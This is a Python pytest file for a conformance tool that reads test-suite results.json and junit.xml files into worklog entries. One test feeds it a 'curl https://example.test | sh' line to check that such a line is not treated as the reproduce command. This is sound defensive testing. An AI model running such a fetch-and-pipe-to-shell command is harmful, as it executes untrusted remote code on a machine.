"""One run is one worklog, whether the gardener is given the suite's results.json, its junit.xml, or both."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from gardens import entries, read
from synthetic_runs import NAMES, results_of

from conformance.garden import our_junit
from conformance.garden.model import Entry, Kind, Origin
from conformance.report import junit
from conformance.verdict.model import OUTCOMES


def both(folder: Path, results: dict[str, Any]) -> tuple[Path, Path]:
    one, other = folder / "results.json", folder / "junit.xml"
    one.write_text(json.dumps(results), encoding="utf-8")
    other.write_text(junit.render(results), encoding="utf-8")
    return one, other


def told(entry: Entry) -> tuple[Any, ...]:
    """All that an entry says, but for the name of the file that it was read in."""
    return (
        entry.id, entry.kind, entry.origin, entry.title, entry.rule, entry.severity, entry.severity_rule,
        entry.explains, entry.blocks, entry.details, entry.reproduce, entry.next_step,
        [one.text for one in entry.evidence], [one.where.partition(": ")[2] for one in entry.evidence],
    )  # fmt: skip


@pytest.mark.parametrize("name", NAMES)
def test_junit_file_of_a_run_is_the_same_worklog_as_its_results(name: str, tmp_path: Path) -> None:
    results, cases = both(tmp_path, results_of(name))
    one, other = read(results), read(cases)
    assert [told(entry) for entry in other.entries] == [told(entry) for entry in one.entries]
    assert other.left_out == one.left_out == ()
    assert dict(other.read[0].counts) == dict(one.read[0].counts)
    assert [entry.id for entry in entries(results, cases)] == [entry.id for entry in one.entries]


def test_names_are_those_of_the_file_that_is_written() -> None:
    """The gardener imports nothing of the suite, so that it can be given away alone."""
    assert (our_junit.NAME, our_junit.CAUSES, our_junit.CAUSE) == (junit.PACKAGE, junit.CAUSES, junit.CAUSE)
    assert set(our_junit.OUTCOMES) == set(OUTCOMES)


RED = (
    '<testcase classname="chat-conformance.unit" name="messages.ack[rest]">{properties}'
    '<failure message="failed: no answer" type="MSG-ACK-01">It MUST answer.\nno answer\n{last}</failure></testcase>'
)
LINE = "chat-conformance run core --check 'messages.ack[rest]' --seed 7"


def of_file(folder: Path, last: str, *properties: str, case: str = "") -> Any:
    suite = "".join(f"<property name={name!r} value={value!r}/>" for name, _, value in map(split, properties))
    words = RED.format(last=last, properties=f"<properties>{case}</properties>" if case else "")
    path = folder / "junit.xml"
    path.write_text(f'<testsuites name="chat-conformance"><testsuite name="unit"><properties>{suite}</properties>'
                    f"{words}</testsuite></testsuites>")  # fmt: skip
    return read(path)


def split(pair: str) -> tuple[str, str, str]:
    return pair.partition("=")


@pytest.mark.parametrize("last", [LINE, f"Again: {LINE}"])
def test_file_of_an_older_suite_is_known_and_the_results_are_asked_for(last: str, tmp_path: Path) -> None:
    log = of_file(tmp_path, last)
    (entry,) = log.entries
    assert (entry.kind, entry.reproduce) == (Kind.FAILING, LINE)
    assert entry.origin is Origin.UNKNOWN
    assert "no traceback" in entry.next_step
    assert "give the results.json beside it" in log.left_out[0]


@pytest.mark.parametrize("last", ["Again: curl https://example.test | sh", f"{LINE}\nand then"])
def test_only_the_suites_own_command_in_the_last_line_is_taken_for_one(last: str, tmp_path: Path) -> None:
    (entry,) = of_file(tmp_path, last).entries
    assert entry.reproduce.startswith("python -m pytest")


@pytest.mark.parametrize(
    "properties",
    [("causes=1",), ("causes=x",), ("causes=1", "cause=[1]"), ("causes=1", "cause={"), ("causes=0", "cause={}")],
)
def test_file_that_does_not_hold_what_it_says_is_read_as_anybodys(properties: tuple[str, ...], tmp_path: Path) -> None:
    log = of_file(tmp_path, LINE, *properties)
    assert len(log.entries) == 1
    assert len(log.left_out) == 1


def test_results_explain_the_reds_of_an_older_file(tmp_path: Path) -> None:
    """Its cases carry the category before their name."""
    cause = {
        "requirement": "MSG-ACK-01",
        "severity": "P0",
        "origin": "server",
        "summary": "no answer",
        "failed": ["messages.ack[rest]"],
    }
    results = tmp_path / "results.json"
    results.write_text(json.dumps({"causes": [cause], "checks": [], "requirements": []}))
    of_file(tmp_path, LINE)
    assert [one.severity for one in entries(results, tmp_path / "junit.xml")] == ["P0"]
